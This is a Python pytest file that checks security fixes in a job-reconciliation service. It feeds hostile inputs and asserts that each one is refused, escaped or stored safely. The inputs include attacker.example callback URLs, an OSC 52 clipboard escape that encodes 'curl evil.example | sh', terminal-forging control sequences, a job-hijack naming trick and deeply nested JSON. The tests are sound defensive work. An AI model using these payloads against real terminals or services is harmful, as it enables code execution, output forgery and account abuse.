"""Issue 25 (security, third pass) end to end on PostgreSQL: no field a customer's input can set
is ever a binding (finding 1 and its suspected item), identifiers reach the operator's terminal
escaped (finding 8), non-standard JSON in a verified webhook is stored, never a 500 (finding 9),
and a deeply nested submit input is a 400 (finding 10).
"""

from __future__ import annotations

import base64
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from reconcile import api, lifecycle
from reconcile.cli import main
from reconcile.db.models import CreditTransaction, Job, UsageLog, WebhookDelivery
from reconcile.kinds import BUILTIN_KINDS, get_kind
from reconcile.providers import ListedTask
from reconcile.providers.elevenlabs import form_parts
from reconcile.testing import sim_signing
from reconcile.testing.simulator import Script, Simulator
from reconcile.webhook_ingest import handle_webhook
from tests.integration._sweep_helpers import FOREVER, INPUTS, MODELS, World
from tests.integration.harness import fund

DUBBING_INPUT = {"source_url": "https://example.com/a.mp4", "target_lang": "es"}


def _written(db: sessionmaker[Session]) -> tuple[int, int, int]:
    """Rows a submit writes: jobs, usage logs, ledger transactions."""
    with db() as s:
        return tuple(s.execute(select(func.count()).select_from(model)).scalar_one()  # type: ignore[return-value]
                     for model in (Job, UsageLog, CreditTransaction))


def _refused(w: World, kind: str, input: Any, *, user: uuid.UUID | None = None,
             model: str | None = None, job_type: str = "image", param: str = "input") -> None:
    """api.submit answers 400 INVALID_PARAM naming ``param`` and writes nothing."""
    before = _written(w.db)
    status, body = api.submit(w.rt, user or w.user, kind, model or MODELS.get(kind, "acme/m:v1"),
                              input, 300, job_type=job_type, inline=True)
    assert status == 400, (kind, input, status, body)
    assert body["error"]["code"] == "INVALID_PARAM" and body["error"]["param"] == param, body
    assert _written(w.db) == before, (kind, input)


def _uncertain(w: World, kind: str, model: str, input: dict[str, Any]) -> uuid.UUID:
    """An uncertain create that created nothing upstream (a 5xx): only evidence could adopt."""
    job_id = w.submit(kind, 300, job_type="audio", model=model, input=input)
    w.sim.script(str(job_id), Script(timeline=FOREVER, create="server_error"))
    assert lifecycle.create_step(w.rt, job_id).action == "uncertain"
    assert w.sim.tasks_for(str(job_id)) == []
    return job_id


def _assert_untouched(w: World, victim: uuid.UUID) -> None:
    job = w.job(victim)
    assert (job.submission_state, job.provider_task_id) == ("uncertain", None)
    assert job.status == "pending" and job.credits_actual is None
    assert w.log_status(victim) == "reserved" and w.refunds(victim) == 0


# ----------------------------------------------------------------------------- finding 1


def test_every_builtin_kind_declares_its_binding_fields() -> None:
    """The table has a row per kind: a new built-in kind cannot be added without one, and every
    async kind (each plants a callback) names at least one field."""
    for name in BUILTIN_KINDS:
        kind = get_kind(name)
        assert kind is not None and kind.binds is not None, f"{name} declares no binding fields"
        assert kind.sync or kind.binds, f"async kind {name} plants a callback but names no field"


@pytest.mark.parametrize("kind_name", [k for k in BUILTIN_KINDS if not get_kind(k).sync])  # type: ignore[union-attr]
def test_an_input_setting_a_binding_field_is_refused_and_writes_nothing(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, kind_name: str) -> None:
    """Table-driven over every kind's declared fields, as the provider might read the key: as
    declared, upper-cased, padded, and as the ``<field>_base64`` multipart form."""
    w = World(db, simulator, tmp_path)
    kind = get_kind(kind_name)
    assert kind is not None and kind.binds
    base = INPUTS.get(kind_name, {"prompt": "cat"})
    for field in kind.binds:
        for key in (field, field.upper(), f" {field}", f"{field}_base64"):
            value = f"https://attacker.example/x?job_id={uuid.uuid4()}"
            _refused(w, kind_name, {**base, key: value})


def test_an_input_using_the_librarys_prefix_anywhere_is_refused(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path) -> None:
    w = World(db, simulator, tmp_path)
    victim = uuid.uuid4()
    for input in ({"prompt": f"reconcile-job:{victim}"},
                  {"prompt": "cat", "extra": [{"title": f"x Reconcile-Job:{victim}"}]},
                  {f"reconcile-job:{victim}": 1}):
        _refused(w, "replicate-prediction", input)


@pytest.mark.parametrize("victim_model", ["dubbing", "stt:scribe_v1"])
def test_a_customer_cannot_name_a_dubbing_after_another_users_uncertain_job(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, victim_model: str) -> None:
    """The attack of finding 1: the victim's create got a 5xx (uncertain, 300 credits held); an
    attacker submits their own dubbing named ``reconcile-job:<victim>``. Before the fix the name
    was sent, the signed webhook carried it and the sweep adopted the attacker's dubbing for the
    victim. Now the submit is a 400 and nothing is written or sent upstream."""
    w = World(db, simulator, tmp_path)
    victim = _uncertain(w, "elevenlabs-async", victim_model, DUBBING_INPUT)
    simulator.script(str(victim), Script(timeline=FOREVER))  # the simulator keys on the name
    attacker = uuid.uuid4()
    fund(db, attacker, 10_000)
    for key in ("name", "name_base64"):
        name = f"reconcile-job:{victim}"
        value = name if key == "name" else base64.b64encode(name.encode()).decode()
        _refused(w, "elevenlabs-async", {**DUBBING_INPUT, key: value}, user=attacker,
                 model="dubbing")
    # the suspected variant: a dubbing create carrying webhook_metadata naming the victim
    _refused(w, "elevenlabs-async", {**DUBBING_INPUT, "webhook_metadata": {"job_id": str(victim)}},
             user=attacker, model="dubbing")
    assert [t for t in simulator.tasks.values() if t.api == "elevenlabs-dubbing"] == []
    for _ in range(3):
        w.clock.advance(minutes=5)
        w.tick()
    _assert_untouched(w, victim)


def test_a_dubbing_named_for_another_job_before_the_fix_is_never_its_evidence(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path) -> None:
    """A row stored before the fix: the attacker's own (accepted) job holds a dubbing whose
    customer-chosen name is ``reconcile-job:<victim>``; ElevenLabs' genuinely signed webhook
    and the confirming read both echo that name. The dubbing id is the attacker's job's task,
    so it is never evidence for the victim: the victim stays uncertain and is not charged."""
    w = World(db, simulator, tmp_path)
    victim = _uncertain(w, "elevenlabs-async", "dubbing", DUBBING_INPUT)
    attacker = uuid.uuid4()
    fund(db, attacker, 10_000)
    attacker_job = w.submit("elevenlabs-async", 300, job_type="audio", user=attacker,
                            model="dubbing", input=DUBBING_INPUT)
    # the simulator scripts by the job id a create names: this one names the victim's
    simulator.script(str(victim), Script(timeline=FOREVER))
    # what the client sent before the fix (it kept a name the input gave)
    client = w.rt.client(w.rt.kind("elevenlabs-async"))  # type: ignore[arg-type]
    response = client.http.send_once(  # type: ignore[union-attr]
        "POST", "/v1/dubbing",
        files=form_parts({**DUBBING_INPUT, "name": f"reconcile-job:{victim}"}))
    dubbing_id = response.json()["dubbing_id"]
    w.set(attacker_job, provider_task_id=dubbing_id, submission_state="accepted",
          status="processing")

    timestamp = int(w.clock.now.timestamp())
    body = json.dumps({"type": "dubbing", "event_timestamp": timestamp, "data": {
        "dubbing_id": dubbing_id, "name": f"reconcile-job:{victim}", "status": "dubbed",
        "target_languages": ["es"]}}).encode()
    headers = sim_signing.elevenlabs_headers(simulator.secrets.elevenlabs_webhook_secret, body,
                                             timestamp)
    assert handle_webhook(w.rt, "elevenlabs", headers, body, {}) == (202, {"status": "evidence"})
    for _ in range(4):
        w.clock.advance(minutes=5)
        report = w.tick()
        assert "adopted" not in [a.outcome for a in report.actions], report.actions
    _assert_untouched(w, victim)


def test_a_listed_task_another_job_holds_is_never_adopted(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The same rule for a provider listing: a task listed as this job's that another job
    already holds is that job's, not evidence."""
    w = World(db, simulator, tmp_path)
    victim = _uncertain(w, "replicate-prediction", "acme/upscaler:v1", {"prompt": "cat"})
    simulator.script(str(victim), Script(timeline=FOREVER))
    other = w.accept("replicate-prediction", Script(timeline=FOREVER))
    client = w.rt.client(w.rt.kind("replicate-prediction"))  # type: ignore[arg-type]
    listed = ListedTask(task_id=w.task_id(other), created_at=None, planted_job_id=str(victim))
    monkeypatch.setattr(client, "find_created", lambda *a, **k: listed)
    for _ in range(3):
        w.clock.advance(minutes=5)
        report = w.tick()
        assert "adopted" not in [a.outcome for a in report.actions], report.actions
    assert w.job(victim).provider_task_id is None


# ----------------------------------------------------------------------------- finding 8


@pytest.mark.parametrize(("param", "value"), [
    ("model", "seedream/4.5-edit\x1b]0;pwned\x07"),
    ("model", "seedream\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("model", "seedream\u202e"),
    ("model", "seedream\x9b31m"),
    ("job_type", "image\x1b[2K\rjob_type  video"),
    ("job_type", "image\nstatus  completed"),
    ("job_type", "image\u2028"),
])
def test_control_characters_in_identifiers_are_refused_at_submit(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, param: str,
        value: str) -> None:
    w = World(db, simulator, tmp_path)
    args = {"model": "seedream/4.5-edit", "job_type": "image", param: value}
    _refused(w, "kie-standard", {"prompt": "cat"}, model=args["model"],
             job_type=args["job_type"], param=param)


def test_reconcile_show_escapes_customer_and_provider_text(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, pg_url: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A row written before the fix (or by a provider: an upstream id, a message) holding ESC/OSC
    sequences is shown with them escaped; ``--json`` stays JSON."""
    w = World(db, simulator, tmp_path)
    job_id = w.submit("kie-standard")
    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    w.set(job_id, provider_model="m\x1b]0;pwned\x07", job_type="image\x1b[2K\rforged  line",
          provider_task_id=f"task{osc52}", error_message="bad\x9b31m\u202eevil",
          error_detail={"message": "\x1b[31m"})
    monkeypatch.setenv("RECONCILE_DATABASE_URL", pg_url)
    result = CliRunner().invoke(main, ["show", str(job_id)])
    assert result.exit_code == 0, result.output
    for raw in ("\x1b", "\x07", "\x9b", "\u202e", "\r"):
        assert raw not in result.output, repr(raw)
    assert "m\\x1b]0;pwned\\x07" in result.stdout and "task\\x1b]52;c;" in result.stdout
    assert "bad\\x9b31m\\u202eevil" in result.stdout
    as_json = CliRunner().invoke(main, ["show", str(job_id), "--json"])
    assert json.loads(as_json.stdout)["job"]["provider_task_id"] == f"task{osc52}"


# ----------------------------------------------------------------------------- finding 9


@pytest.mark.parametrize(("fragment", "stored"), [
    ('"metrics": {"predict_time": NaN}', {"metrics": {"predict_time": "NaN"}}),
    ('"metrics": {"predict_time": Infinity, "x": -Infinity}',
     {"metrics": {"predict_time": "Infinity", "x": "-Infinity"}}),
    ('"logs": "a\\ud800b"', {"logs": "a\ufffdb"}),
    ('"logs": {"\\udfff": [NaN]}', {"logs": {"\ufffd": ["NaN"]}}),
    ('"status": "processing\\udc00"', {"status": "processing\ufffd"}),
])
def test_a_verified_webhook_with_non_standard_json_is_stored_never_a_500(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, fragment: str,
        stored: dict[str, Any]) -> None:
    """jsonb refuses NaN/Infinity and lone surrogates (DataError, a 500, the verified delivery
    lost): the delivery is stored with them replaced and answered 2xx."""
    w = World(db, simulator, tmp_path)
    job_id = w.accept("replicate-prediction", Script(timeline=FOREVER))
    task_id = w.task_id(job_id)
    status = "" if '"status"' in fragment else ', "status": "processing"'
    text = '{"id": "' + task_id + '", ' + fragment + status + "}"
    body = text.encode()
    headers = sim_signing.replicate_headers(simulator.secrets.replicate_webhook_secret, body,
                                            f"msg_{uuid.uuid4().hex}", sim_signing.now_seconds())
    status, answer = handle_webhook(w.rt, "replicate", headers, body, {"job_id": str(job_id)})
    assert 200 <= status < 300, answer
    with db() as s:
        row = s.execute(select(WebhookDelivery).where(
            WebhookDelivery.upstream_id == task_id)).scalar_one()
    assert row.payload is not None
    assert {k: row.payload[k] for k in stored} == stored
    # the same delivery again is a duplicate, not a second row or a 500
    assert handle_webhook(w.rt, "replicate", headers, body, {"job_id": str(job_id)})[0] == 200


# ----------------------------------------------------------------------------- finding 10


@pytest.mark.parametrize("text", [
    "[" * 100_000 + "]" * 100_000,
    '{"a":' * 100_000 + "1" + "}" * 100_000,
])
@pytest.mark.parametrize("as_bytes", [False, True])
def test_a_deeply_nested_json_input_is_a_400_not_a_500(
        db: sessionmaker[Session], simulator: Simulator, tmp_path: Path, text: str,
        as_bytes: bool) -> None:
    w = World(db, simulator, tmp_path)
    _refused(w, "kie-standard", text.encode() if as_bytes else text)
